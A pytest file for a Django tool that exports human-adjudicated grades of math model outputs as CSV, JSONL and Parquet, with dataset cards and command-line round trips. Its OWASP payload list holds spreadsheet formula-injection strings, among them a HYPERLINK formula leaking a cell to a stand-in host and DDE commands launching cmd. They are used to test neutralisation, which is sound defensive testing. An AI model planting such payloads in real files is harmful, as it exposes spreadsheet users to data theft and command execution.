@@ -1,0 +1,619 @@
+"""Exports: the writers (CSV raw and spreadsheet-safe, strict JSONL, Parquet), the dataset card,
+export jobs from one snapshot, round trips through upload, and the pages and commands."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import threading
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pyarrow.parquet as pq
+import pytest
+from django.core.management import call_command
+from django.db import connection
+from django.urls import reverse
+from hypothesis import given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
+
+from reviewer import export, exports, services
+from reviewer.models import Export, Item, Review, Run
+from reviewer.selectors import ItemFilters
+from reviewer.tasks import grade_chunk
+from tests.factories import GradedItemFactory, ProjectFactory, ReviewFactory, RunFactory
+
+# Hugging Face datasets must only read the local files it is given.
+os.environ["HF_DATASETS_OFFLINE"] = "1"
+os.environ["HF_HUB_OFFLINE"] = "1"
+
+COLUMNS = (export.Column("a", "str"), export.Column("b", "str"))
+OWASP_PAYLOADS = [
+    '=1+2";=1+2',
+    "=1+2'\" ;,=1+2",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!E1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+]
+# Text a spreadsheet must see as text, and code must get back byte for byte.
+HOSTILE_CSV = (
+    "id,problem,gold,output,difficulty\r\n"
+    'h1,"Half of $-1$?",-1/2,"so the answer is $\\boxed{-\\frac{1}{2}}$",easy\r\n'
+    'h2,"line one\r\nline two\rbare CR",=1+2,"@SUM(1+1) and \u2028 then ""quoted""",hard\r\n'
+    'h3,Emoji \U0001f600 and tab\there,+7,"-7",\r\n'
+).encode()
+
+
+def parse_csv(data: bytes) -> list[list[str]]:
+    text = data.decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def strict_json(line: str) -> dict:
+    def refuse(constant: str):
+        raise ValueError(f"{constant} is not JSON")
+
+    return json.loads(line, parse_constant=refuse)
+
+
+# ---- CSV ------------------------------------------------------------------------------------
+
+text = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=40)
+
+
+@hypothesis_settings(deadline=None)
+@given(st.lists(st.tuples(text, text), min_size=1, max_size=8))
+def test_raw_csv_gives_every_cell_back_byte_for_byte(cells):
+    # Given any rows of text
+    rows = [{"a": a, "b": b} for a, b in cells]
+
+    # When they are written as raw CSV and read back
+    parsed = parse_csv(b"".join(export.csv_chunks(rows, COLUMNS)))
+
+    # Then the header and every cell come back exactly
+    assert parsed == [["a", "b"], *[[a, b] for a, b in cells]]
+
+
+@hypothesis_settings(deadline=None)
+@given(st.lists(st.tuples(text, text), min_size=1, max_size=8))
+def test_spreadsheet_csv_never_starts_a_cell_with_a_formula(cells):
+    # Given any rows of text
+    rows = [{"a": a, "b": b} for a, b in cells]
+
+    # When they are written as spreadsheet-safe CSV
+    data = b"".join(export.csv_chunks(rows, COLUMNS, spreadsheet_safe=True))
+    parsed = parse_csv(data)
+
+    # Then it starts with a BOM, every cell is quoted and in its own column, no cell starts
+    # like a formula, and removing the added quote mark gives the text back
+    assert data.startswith(b'\xef\xbb\xbf"a","b"\r\n')
+    assert all(len(row) == 2 for row in parsed)
+    for row, original in zip(parsed[1:], cells, strict=True):
+        for cell, value in zip(row, original, strict=True):
+            assert not cell.startswith(export.FORMULA_TRIGGERS)
+            assert (cell[1:] if value.startswith(export.FORMULA_TRIGGERS) else cell) == value
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_owasp_injection_examples_stay_one_inert_cell(payload):  # D1, D2
+    rows = [{"a": payload, "b": "after"}]
+
+    safe = parse_csv(b"".join(export.csv_chunks(rows, COLUMNS, spreadsheet_safe=True)))
+    raw = parse_csv(b"".join(export.csv_chunks(rows, COLUMNS)))
+
+    assert safe[1] == ["'" + payload, "after"]
+    assert raw[1] == [payload, "after"]
+
+
+def test_a_negative_fraction_survives_raw_and_is_quoted_for_spreadsheets():
+    rows = [{"a": "-1/2", "b": "-\\frac{1}{2}"}]
+
+    raw = b"".join(export.csv_chunks(rows, COLUMNS))
+    safe = b"".join(export.csv_chunks(rows, COLUMNS, spreadsheet_safe=True))
+
+    assert raw == b"a,b\r\n-1/2,-\\frac{1}{2}\r\n"
+    assert parse_csv(safe)[1] == ["'-1/2", "'-\\frac{1}{2}"]
+
+
+def test_numbers_and_flags_are_never_prefixed():
+    columns = (export.Column("n", "int"), export.Column("ok", "bool"))
+    safe = b"".join(export.csv_chunks([{"n": -3, "ok": False}], columns, spreadsheet_safe=True))
+    assert parse_csv(safe)[1] == ["-3", "false"]
+
+
+# ---- JSONL ----------------------------------------------------------------------------------
+
+any_text = st.text(max_size=40)  # lone surrogates included
+
+
+@hypothesis_settings(deadline=None)
+@given(st.lists(st.tuples(any_text, any_text), min_size=1, max_size=8))
+def test_jsonl_is_one_strict_ascii_json_object_per_line(cells):  # D3
+    rows = [{"a": a, "b": b} for a, b in cells]
+
+    data = b"".join(export.jsonl_chunks(rows, COLUMNS))
+
+    lines = data.decode("ascii").split("\n")
+    assert lines[-1] == ""
+    assert [strict_json(line) for line in lines[:-1]] == rows
+
+
+@pytest.mark.parametrize(
+    "value",
+    [float("nan"), float("inf"), "NaN", "\u2028\u2029", "\ud800 lone", "a\nb\r\nc", '"}\n{"'],
+)
+def test_jsonl_lines_stay_valid_whatever_the_text(value):  # D3
+    data = b"".join(export.jsonl_chunks([{"a": value, "b": "x"}, {"a": "y"}], COLUMNS))
+
+    lines = data.decode("ascii").splitlines()
+
+    assert len(lines) == 2
+    assert all(isinstance(strict_json(line), dict) for line in lines)
+    assert strict_json(lines[1]) == {"a": "y", "b": None}
+
+
+# ---- Parquet and schema ---------------------------------------------------------------------
+
+
+def test_parquet_is_written_in_row_groups_with_typed_columns():
+    columns = (
+        export.Column("n", "int"),
+        export.Column("reasons", "list"),
+        export.Column("at", "datetime"),
+        export.Column("text", "str"),
+    )
+    at = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
+    rows = ({"n": i, "reasons": ["x"] * (i % 3), "at": at, "text": "-1/2"} for i in range(2500))
+
+    data = b"".join(export.parquet_chunks(rows, columns, rows_per_group=1000))
+
+    parquet = pq.ParquetFile(io.BytesIO(data))
+    assert parquet.metadata.num_row_groups == 3
+    table = parquet.read()
+    assert table.num_rows == 2500
+    assert table.column("reasons")[5].as_py() == ["x", "x"]
+    assert table.column("at")[0].as_py() == at
+    assert str(table.schema.field("n").type) == "int64"
+
+
+def test_an_extra_column_named_like_an_export_column_keeps_both():
+    schema = export.dataset_schema(evaluators=["exact"], extra_keys=["gold", "difficulty"])
+
+    names = [c.name for c in schema.columns]
+
+    assert schema.extra_columns == {"difficulty": "difficulty", "gold": "extra_gold"}
+    assert len(names) == len(set(names))
+    assert "eval_exact_verdict" in names
+
+
+# ---- dataset card ---------------------------------------------------------------------------
+
+
+def card_row(jury, final, source="auto", a=None, b=None, by=None, at=None):
+    return {
+        "grade_state": "graded",
+        "jury_verdict": jury,
+        "final_verdict": final,
+        "final_source": source,
+        "eval_a_verdict": a,
+        "eval_b_verdict": b,
+        "reviewed_by": by,
+        "reviewed_at": at,
+        "jury_needs_review": source == "human",
+    }
+
+
+def test_card_counts_accuracy_before_and_after_review_and_agreement():
+    # Given four rows: two agreed correct, one overturned by a person, one gold error
+    early, late = datetime(2026, 1, 1, tzinfo=UTC), datetime(2026, 1, 2, tzinfo=UTC)
+    tally = export.CardTally(evaluators=["a", "b"])
+    for row in [
+        card_row("correct", "correct", a="correct", b="correct"),
+        card_row("correct", "correct", a="correct", b="incorrect"),
+        card_row("correct", "incorrect", "human", a="correct", b="incorrect", by="ann", at=late),
+        card_row("incorrect", "gold_wrong", "human", a="incorrect", by="bob", at=early),
+    ]:
+        tally.add(row)
+
+    # When the card is made
+    card = tally.card(about={}, evaluator_versions={"a": ["1"]})
+
+    # Then accuracy before is the jury's 3/4, after is 2/3 (gold-wrong left out)
+    assert card["accuracy"]["before_adjudication"] == 0.75
+    assert card["accuracy"]["after_adjudication"] == pytest.approx(2 / 3, abs=1e-6)
+    assert card["counts"]["gold_errata"] == 1
+    assert card["counts"]["reviewed_by_a_person"] == 2
+    assert card["counts"]["final_verdicts"] == {
+        "correct": 2,
+        "incorrect": 1,
+        "gold_wrong": 0 + 1,
+        "unclear": 0,
+        "none": 0,
+    }
+    # and a agrees with 2 of 3 final verdicts, b with 2 of 3; both agree on 1 of 3 rows
+    agreement = card["evaluator_agreement"]
+    assert agreement["with_final_verdict"]["a"] == {
+        "agreement": pytest.approx(2 / 3, abs=1e-6),
+        "rows_compared": 3,
+        "rows_answered": 4,
+    }
+    assert agreement["with_final_verdict"]["b"]["agreement"] == pytest.approx(2 / 3, abs=1e-6)
+    assert agreement["all_evaluators_agree"] == pytest.approx(1 / 3, abs=1e-6)
+    assert card["review"] == {
+        "reviewers": {"ann": 1, "bob": 1},
+        "first_review_at": early.isoformat(),
+        "last_review_at": late.isoformat(),
+    }
+
+
+# ---- Django: rows, jobs, snapshot -----------------------------------------------------------
+
+
+@pytest.fixture
+def graded_demo_run(user) -> Run:
+    """The demo run graded in this process, with three human decisions."""
+    run = services.demo_load(user=user)
+    grade_chunk(run.pk, run.grading_generation, list(run.items.values_list("pk", flat=True)))
+    items = list(run.items.order_by("row_number"))
+    services.item_review(item=items[3], user=user, verdict="gold_wrong", note="gold is 12")
+    services.item_review(item=items[0], user=user, verdict="incorrect", note="misread")
+    services.item_review(item=items[5], user=user, verdict="unclear")
+    run.refresh_from_db()
+    return run
+
+
+def export_now(run: Run, user, format: str, variant: str = "raw", **filters) -> Export:
+    job = exports.export_start(
+        run=run,
+        user=user,
+        format=format,
+        variant=variant,
+        filters=ItemFilters(**filters),
+        in_background=False,
+    )
+    return exports.export_write(export_id=job.pk)
+
+
+@pytest.fixture
+def export_dir(settings, tmp_path) -> Path:
+    settings.MATHJURY_EXPORT_DIR = tmp_path / "exports"
+    return settings.MATHJURY_EXPORT_DIR
+
+
+def jsonl_rows(path: Path) -> list[dict]:
+    return [strict_json(line) for line in path.read_text("ascii").splitlines()]
+
+
+@pytest.mark.django_db
+def test_export_job_writes_the_rows_gold_errata_and_card(graded_demo_run, user, export_dir):
+    run = graded_demo_run
+
+    job = export_now(run, user, "jsonl")
+
+    # Then every row is there with every evaluator's verdict, the jury's and the final one
+    rows = jsonl_rows(exports.export_path(job, "data"))
+    assert job.status == Export.Status.DONE and job.rows_done == len(rows) == run.total_rows
+    by_id = {row["id"]: row for row in rows}
+    first = by_id["demo-01"]
+    for name in run.evaluators:
+        assert first[f"eval_{name}_status"] in {"ok", "no_answer", "parse_error", "timeout"}
+    assert (first["final_verdict"], first["final_source"]) == ("incorrect", "human")
+    assert (first["reviewed_by"], first["review_note"]) == (user.username, "misread")
+    assert first["jury_verdict"] == "correct"
+    # and the gold errata file holds exactly the row marked gold-wrong
+    errata = jsonl_rows(exports.export_path(job, "errata"))
+    assert [row["id"] for row in errata] == ["demo-04"]
+    assert errata[0]["review_note"] == "gold is 12"
+    # and the card's numbers are the run's
+    card = json.loads(exports.export_path(job, "card.json").read_text())
+    jury_correct = sum(row["jury_verdict"] == "correct" for row in rows)
+    jury_decided = sum(row["jury_verdict"] in ("correct", "incorrect") for row in rows)
+    final_correct = sum(row["final_verdict"] == "correct" for row in rows)
+    final_decided = sum(row["final_verdict"] in ("correct", "incorrect") for row in rows)
+    assert card["counts"]["rows"] == run.total_rows
+    assert card["counts"]["reviewed_by_a_person"] == 3
+    assert card["counts"]["gold_errata"] == 1
+    assert card["accuracy"]["before_adjudication"] == round(jury_correct / jury_decided, 6)
+    assert card["accuracy"]["after_adjudication"] == round(final_correct / final_decided, 6)
+    assert card["review"]["reviewers"] == {user.username: 3}
+    assert set(card["evaluator_versions"]) == set(run.evaluators)
+    markdown = exports.export_path(job, "card.md").read_text()
+    assert "## Accuracy" in markdown and run.name in markdown
+
+
+@pytest.mark.django_db
+def test_export_of_reviewed_rows_only_holds_just_those(graded_demo_run, user, export_dir):
+    job = export_now(graded_demo_run, user, "csv", reviewed=True)
+
+    rows = parse_csv(exports.export_path(job, "data").read_bytes())
+
+    header = rows[0]
+    ids = sorted(row[header.index("id")] for row in rows[1:])
+    assert ids == ["demo-01", "demo-04", "demo-06"]
+    assert job.card["export"]["filters"] == {"reviewed": True}
+
+
+@pytest.mark.django_db
+def test_demo_exports_open_in_pandas_and_hugging_face_datasets(
+    graded_demo_run, user, export_dir, tmp_path
+):
+    import datasets
+    import pandas as pd
+
+    jsonl = exports.export_path(export_now(graded_demo_run, user, "jsonl"), "data")
+    parquet = exports.export_path(export_now(graded_demo_run, user, "parquet"), "data")
+
+    frames = [pd.read_json(jsonl, lines=True, dtype=False), pd.read_parquet(parquet)]
+    for frame in frames:
+        assert len(frame) == graded_demo_run.total_rows
+        assert frame.loc[frame["id"] == "demo-04", "final_verdict"].item() == "gold_wrong"
+        assert frame["jury_needs_review"].dtype == bool
+    loaded = [
+        datasets.load_dataset("json", data_files=str(jsonl), split="train", cache_dir=tmp_path),
+        datasets.load_dataset(
+            "parquet", data_files=str(parquet), split="train", cache_dir=tmp_path
+        ),
+    ]
+    for dataset in loaded:
+        assert dataset.num_rows == graded_demo_run.total_rows
+        assert dataset.filter(lambda row: row["id"] == "demo-01")[0]["review_note"] == "misread"
+        assert dataset.features["jury_reasons"].feature.dtype == "string"
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("format", ["jsonl", "csv"])
+def test_an_export_uploads_again_as_a_run_with_the_same_content(
+    format, user, store_upload, export_dir
+):
+    # Given a run made from a file full of formula-looking text, CRs and Unicode
+    stored = store_upload(HOSTILE_CSV, "hostile.csv")
+    project = ProjectFactory()
+    run = services.run_create(
+        project=project, user=user, upload_token=stored.token, mapping=None, name="hostile"
+    )
+
+    # When it is exported (raw) and the export is uploaded again with the guessed mapping
+    data = exports.export_path(export_now(run, user, format), "data").read_bytes()
+    again = store_upload(data, f"again.{format}")
+    copy = services.run_create(
+        project=project, user=user, upload_token=again.token, mapping=None, name="again"
+    )
+
+    # Then every row's problem, gold, output, id and other columns are the same
+    fields = ["row_number", "external_id", "problem", "gold", "output", "sample_index"]
+    original = list(run.items.order_by("row_number").values(*fields, "extra"))
+    copied = list(copy.items.order_by("row_number").values(*fields, "extra"))
+    assert [{f: r[f] for f in fields} for r in copied] == [
+        {f: r[f] for f in fields} for r in original
+    ]
+    assert original[1]["problem"] == "line one\r\nline two\rbare CR"
+    for before, after in zip(original, copied, strict=True):
+        assert before["extra"].items() <= after["extra"].items()
+
+
+@pytest.mark.django_db
+def test_raw_csv_keeps_quoted_crlf_and_bare_cr_bytes(user, store_upload, export_dir):  # C6
+    stored = store_upload(HOSTILE_CSV, "hostile.csv")
+    run = services.run_create(
+        project=ProjectFactory(), user=user, upload_token=stored.token, mapping=None, name="h"
+    )
+
+    data = exports.export_path(export_now(run, user, "csv"), "data").read_bytes()
+
+    assert b'"line one\r\nline two\rbare CR"' in data
+    assert b",-1/2," in data and b",=1+2," in data
+
+
+@pytest.mark.django_db
+def test_streaming_rows_takes_the_same_queries_for_5_or_50_items(django_assert_num_queries):
+    def queries_for(count: int) -> None:
+        run = RunFactory()
+        for n in range(count):
+            item = GradedItemFactory(run=run, row_number=n + 1)
+            ReviewFactory(item=item)
+        schema = export.dataset_schema(evaluators=run.evaluators, extra_keys=[])
+        items = exports.export_items(run=run, filters=ItemFilters())
+        # one query for the items, one for their evaluations, one for their reviews
+        with django_assert_num_queries(3):
+            rows = list(exports.export_rows(items=items, schema=schema))
+        assert len(rows) == count
+
+    queries_for(5)
+    queries_for(50)
+
+
+@pytest.mark.django_db(transaction=True)
+def test_an_export_is_one_snapshot_while_reviewers_keep_saving(user, export_dir, monkeypatch):
+    # D4. Given a run of 3000 rows, read 100 at a time
+    monkeypatch.setattr(exports, "ROWS_PER_QUERY", 100)
+    run = RunFactory(status=Run.Status.DONE, total_rows=3000)
+    Item.objects.bulk_create(
+        Item(
+            run=run,
+            row_number=n,
+            source_line=n + 1,
+            gold="1",
+            output="1",
+            grade_state=Item.GradeState.GRADED,
+            auto_verdict="correct",
+            final_verdict="correct",
+            final_source=Item.FinalSource.AUTO,
+        )
+        for n in range(1, 3001)
+    )
+    job = exports.export_start(
+        run=run,
+        user=user,
+        format="jsonl",
+        variant="raw",
+        filters=ItemFilters(),
+        in_background=False,
+    )
+    # and a reviewer marking rows "gold is wrong", first rows first, until the export ends
+    finished = threading.Event()
+
+    def reviewer() -> None:
+        try:
+            for item in Item.objects.filter(run=run).order_by("row_number"):
+                if finished.is_set():
+                    break
+                services.item_review(item=item, user=user, verdict="gold_wrong")
+        finally:
+            connection.close()
+
+    thread = threading.Thread(target=reviewer)
+    thread.start()
+    try:
+        while not Review.objects.filter(item__run=run).exists():
+            pass
+        # When the export is written meanwhile
+        job = exports.export_write(export_id=job.pk)
+    finally:
+        finished.set()
+        thread.join()
+
+    # Then reviews were saved during the export, which saw none of them half-way: the data,
+    # the gold errata and the card agree row for row
+    saved_during = Review.objects.filter(
+        item__run=run, created_at__gt=job.started_at, created_at__lt=job.finished_at
+    )
+    assert saved_during.exists()
+    rows = jsonl_rows(exports.export_path(job, "data"))
+    gold_wrong = {r["item_id"] for r in rows if r["final_verdict"] == "gold_wrong"}
+    assert all((r["final_source"] == "human") == (r["review_count"] > 0) for r in rows)
+    errata = {r["item_id"] for r in jsonl_rows(exports.export_path(job, "errata"))}
+    assert errata == gold_wrong
+    assert job.card["counts"]["gold_errata"] == len(gold_wrong) == job.errata_rows
+
+
+# ---- pages ----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def reviewer_client(client, user):
+    client.force_login(user)
+    return client
+
+
+@pytest.fixture(autouse=True)
+def _static_urls_without_manifest(settings) -> None:
+    settings.STORAGES = {
+        **settings.STORAGES,
+        "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"},
+    }
+
+
+@pytest.mark.django_db
+def test_run_page_offers_the_export_form(reviewer_client):
+    run = RunFactory()
+    body = reviewer_client.get(reverse("run_detail", args=[run.pk])).content.decode()
+    assert f'action="{reverse("export_create", args=[run.pk])}"' in body
+    assert 'value="parquet"' in body and 'value="spreadsheet"' in body
+
+
+@pytest.mark.django_db
+def test_a_small_export_downloads_at_once(reviewer_client, export_dir):
+    # Given a run of two rows
+    run = RunFactory(name="Tiny run")
+    GradedItemFactory(run=run, row_number=1, gold="=1+2")
+    GradedItemFactory(run=run, row_number=2)
+
+    # When the reviewer asks for a spreadsheet CSV download
+    response = reviewer_client.post(
+        reverse("export_create", args=[run.pk]),
+        {"format": "csv", "variant": "spreadsheet", "rows": "all", "how": "download"},
+    )
+
+    # Then the file streams back with its name, formulas neutralised, and no job is recorded
+    assert response.status_code == 200 and response.streaming
+    assert f"run-{run.pk}-tiny-run-spreadsheet.csv" in response["Content-Disposition"]
+    rows = parse_csv(b"".join(response.streaming_content))
+    assert len(rows) == 3 and "'=1+2" in rows[1]
+    assert not Export.objects.exists()
+
+
+@pytest.mark.django_db
+def test_a_large_export_runs_as_a_job_with_progress_and_links(
+    reviewer_client, user, settings, export_dir, django_capture_on_commit_callbacks
+):
+    # Given streaming stops at one row, and a run of two
+    settings.MATHJURY_EXPORT_STREAM_MAX_ROWS = 1
+    run = RunFactory()
+    GradedItemFactory(run=run, row_number=1)
+    GradedItemFactory(run=run, row_number=2)
+
+    # When the reviewer asks for a download, the export is queued and its page polls
+    with django_capture_on_commit_callbacks() as callbacks:
+        response = reviewer_client.post(
+            reverse("export_create", args=[run.pk]),
+            {"format": "jsonl", "variant": "raw", "rows": "all", "how": "download"},
+        )
+    job = Export.objects.get()
+    assert response.status_code == 302
+    assert response["Location"] == reverse("export_detail", args=[job.pk])
+    assert len(callbacks) == 1  # the task is sent on commit
+    page = reviewer_client.get(response["Location"]).content.decode()
+    assert 'data-export-status="queued"' in page and "every 1s" in page
+
+    # And once a worker has written it, the poll shows the download links
+    exports.export_write(export_id=job.pk)
+    poll = reviewer_client.get(
+        response["Location"], HTTP_HX_REQUEST="true", HTTP_HX_TARGET="export-status"
+    ).content.decode()
+    assert poll.lstrip().startswith('<section id="export-status"')
+    assert "every 1s" not in poll
+    link = reverse("export_file", args=[job.pk, "data"])
+    assert link in poll
+    download = reviewer_client.get(link)
+    assert len(b"".join(download.streaming_content).splitlines()) == 2
+    assert reviewer_client.get(reverse("export_file", args=[job.pk, "errata"])).status_code == 404
+
+
+# ---- command line ---------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_import_run_and_export_run_commands_round_trip(tmp_path, export_dir, capsys):
+    # Given a JSONL file of outputs
+    source = tmp_path / "outputs.jsonl"
+    source.write_text(
+        '{"id": "q1", "question": "1+1?", "answer_gt": "2", "response": "so 2"}\n'
+        '{"id": "q2", "question": "2+2?", "answer_gt": "4", "response": "so 5"}\n'
+    )
+
+    # When it is imported with one column named by hand, and exported again
+    call_command("import_run", str(source), "--project", "Pipelines", "--map", "gold=answer_gt")
+    run_id = int(capsys.readouterr().out.strip())
+    target = tmp_path / "out" / "adjudicated.jsonl"
+    call_command("export_run", str(run_id), "--format", "jsonl", "-o", str(target))
+
+    # Then the run holds both rows, and the export and its card are beside each other
+    run = Run.objects.get(pk=run_id)
+    assert run.project.name == "Pipelines" and run.total_rows == 2
+    rows = jsonl_rows(target)
+    assert [(r["id"], r["gold"], r["output"]) for r in rows] == [
+        ("q1", "2", "so 2"),
+        ("q2", "4", "so 5"),
+    ]
+    assert (
+        json.loads((tmp_path / "out" / "adjudicated.card.json").read_text())["counts"]["rows"] == 2
+    )
+    assert (tmp_path / "out" / "adjudicated.card.md").exists()
+
+
+@pytest.mark.django_db
+def test_import_run_refuses_a_file_without_a_gold_column(tmp_path):
+    source = tmp_path / "bad.csv"
+    source.write_text("question,response\n1+1?,2\n")
+
+    with pytest.raises(Exception, match="no column looks like the gold"):
+        call_command("import_run", str(source), "--project", "P")
+
+    assert not Run.objects.exists()
